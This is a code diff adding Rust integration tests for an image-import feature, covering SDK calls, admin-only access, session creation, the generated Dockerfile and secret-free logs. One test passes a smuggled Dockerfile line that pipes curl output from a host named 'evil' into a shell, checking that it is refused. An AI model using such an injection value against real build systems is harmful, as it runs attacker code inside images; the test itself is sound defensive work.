@@ -292,3 +292,154 @@ async fn presets_roles_and_config_through_the_official_sdk_and_cli() {
         assert!(!log.contains(secret), "the manager logged a secret key");
     }
 }
+
+/// The importer image's row, as a registry sync would write it.
+async fn add_importer_image(env: &TestEnv) {
+    let db = env.db.connect().await;
+    db.execute(
+        "INSERT INTO images (name, project, image, tag, registry, architecture, config_digest,
+                             size_bytes, labels, resources)
+         VALUES ('index.docker.io/lablup/importer:manylinux2010', 'lablup', 'lablup/importer',
+                 'manylinux2010', 'index.docker.io', 'x86_64',
+                 'sha256:0b2a3f3e0c9e1e8b7f1c5a1d9a7c3b2e4f6a8c0d2e4f6a8b0c2d4e6f8a0b2c4d',
+                 1000, '{\"ai.backend.kernelspec\": \"1\"}',
+                 '{\"cpu\": {\"min\": \"1\"}, \"mem\": {\"min\": \"256m\"}}')",
+        &[],
+    )
+    .await
+    .unwrap();
+    db.execute(
+        "UPDATE domains SET allowed_docker_registries =
+             array_append(allowed_docker_registries, 'index.docker.io') WHERE name = 'default'",
+        &[],
+    )
+    .await
+    .unwrap();
+}
+
+#[tokio::test]
+async fn the_official_sdk_imports_an_image_through_an_importer_batch_session() {
+    let world = ClientWorld::start().await;
+    world.allow_registry().await;
+    world
+        .env
+        .etcd_put(
+            "config/docker/registry/127.0.0.1%3A25000/username",
+            "builder",
+        )
+        .await;
+    world
+        .env
+        .etcd_put(
+            "config/docker/registry/127.0.0.1%3A25000/password",
+            "importer-registry-pass",
+        )
+        .await;
+    let build = |brand: &str| {
+        format!(
+            "import json\nfrom ai.backend.client.session import Session\n\
+             from ai.backend.client.exceptions import BackendAPIError\n\
+             with Session() as s:\n    try:\n        print(json.dumps(s.Image.build(\
+             src='{IMAGE}', target='{REGISTRY}/testing/python-imported:3.9',\
+             brand={brand:?}, baseDistro='ubuntu', minCPU=1, minMemory='128m',\
+             supportedAccelerators=['cuda'], runtimeType='python',\
+             runtimePath='/usr/local/bin/python', CPUCountEnvs=['NPROC'],\
+             servicePorts=[{{'name': 'jupyter', 'protocol': 'http', 'ports': [8080]}}])))\n\
+             \x20   except BackendAPIError as e:\n        print(json.dumps({{'status': e.status, 'data': e.data}}))"
+        )
+    };
+    let db = world.env.db.connect().await;
+
+    // Without the importer image there is nothing to run the build with.
+    let refused = world.sdk(ADMIN_AK, ADMIN_SK, &build("Python 3.9"));
+    assert_eq!(refused["status"], 404, "{refused}");
+    assert_eq!(refused["data"]["title"], "No such environment image.");
+    // A brand that would add lines to the Dockerfile is refused, naming the parameter.
+    add_importer_image(&world.env).await;
+    let refused = world.sdk(ADMIN_AK, ADMIN_SK, &build("x\"\nRUN curl evil | sh"));
+    assert_eq!(refused["status"], 400, "{refused}");
+    assert!(refused["data"]["data"]["brand"].is_string(), "{refused}");
+    // Users cannot import.
+    let refused = world.sdk(USER_AK, USER_SK, &build("Python 3.9"));
+    assert_eq!(refused["status"], 401, "{refused}");
+    let count = db
+        .query_one(
+            "SELECT count(*) FROM sessions WHERE name LIKE 'image-import-%'",
+            &[],
+        )
+        .await
+        .unwrap()
+        .get::<_, i64>(0);
+    assert_eq!(count, 0, "a refused import left a session behind");
+
+    let reply = world.sdk(ADMIN_AK, ADMIN_SK, &build("Python 3.9"));
+    let task = &reply["importTask"];
+    let session_name = task["sessionId"].as_str().expect("a session name");
+    assert!(session_name.starts_with("image-import-"), "{reply}");
+    let kernel_id = uuid::Uuid::parse_str(task["taskId"].as_str().expect("a task id"))
+        .expect("the task id is the kernel's id");
+    assert!(!reply.to_string().contains("importer-registry-pass"));
+
+    let row = db
+        .query_one(
+            "SELECT s.session_type::text, s.status::text, k.image, k.startup_command, k.environ,
+                    k.internal_data, s.access_key
+             FROM sessions s JOIN kernels k ON k.session_id = s.id
+             WHERE s.name = $1 AND k.id = $2",
+            &[&session_name, &kernel_id],
+        )
+        .await
+        .unwrap();
+    assert_eq!(row.get::<_, String>(0), "BATCH");
+    assert_eq!(row.get::<_, String>(1), "PENDING");
+    assert_eq!(
+        row.get::<_, String>(2),
+        "index.docker.io/lablup/importer:manylinux2010"
+    );
+    assert_eq!(
+        row.get::<_, Option<String>>(3).as_deref(),
+        Some("/root/build-image.sh")
+    );
+    let environ: Vec<String> = row.get(4);
+    assert!(
+        environ.contains(&format!("SRC_IMAGE={IMAGE}")),
+        "{environ:?}"
+    );
+    assert!(
+        environ.contains(&format!(
+            "TARGET_IMAGE={REGISTRY}/testing/python-imported:3.9"
+        )),
+        "{environ:?}"
+    );
+    let script = environ
+        .iter()
+        .find_map(|e| e.strip_prefix("BUILD_SCRIPT="))
+        .expect("the build script");
+    use base64::Engine;
+    let dockerfile = String::from_utf8(
+        base64::engine::general_purpose::STANDARD
+            .decode(script)
+            .unwrap(),
+    )
+    .unwrap();
+    assert!(
+        dockerfile.contains(&format!("FROM {IMAGE}\n")),
+        "{dockerfile}"
+    );
+    assert!(dockerfile.contains("ai.backend.resource.min.mem=\"128 MiB\""));
+    assert!(dockerfile.contains("ai.backend.service-ports=\"jupyter:http:8080\""));
+    let internal: Value = row.get(5);
+    assert_eq!(
+        internal["docker_credentials"][REGISTRY],
+        serde_json::json!({"username": "builder", "password": "importer-registry-pass"})
+    );
+    assert_eq!(internal["block_service_ports"], true);
+    assert_eq!(
+        internal["domain_socket_proxies"],
+        serde_json::json!(["/var/run/docker.sock"])
+    );
+    assert_eq!(row.get::<_, String>(6), ADMIN_AK);
+
+    // The registry's password went to the kernel's internal data only, never to the log.
+    assert!(!world.manager.output().contains("importer-registry-pass"));
+}
